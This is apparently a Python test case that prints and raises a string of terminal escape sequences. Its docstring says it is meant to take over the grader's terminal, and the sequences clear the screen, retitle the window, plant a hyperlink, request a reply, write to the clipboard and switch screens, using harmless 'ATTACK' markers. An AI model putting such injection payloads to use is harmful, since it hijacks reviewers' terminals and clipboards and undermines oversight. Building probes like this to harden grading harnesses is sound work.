"""Command the terminal of whoever grades: clear, move, colour, retitle, link, ask for a reply, paste.

expect: costs own
"""
text = ("\x1b[2J\x1b[H\x1b[31mred\x1b]0;ATTACK_ACTIVE\x07\x1b]8;;http://127.0.0.1/ATTACK_ACTIVE\x1b\\link\x1b]8;;\x1b\\"
        "\x1b[6n\x1b]52;c;QVRUQUNL\x07\x1bP$q\"p\x1b\\\x9b2J\x1b[?1049h\x0e\x0f\x08\x08\x08\x7f\x05")
print(text)
raise ValueError(text)
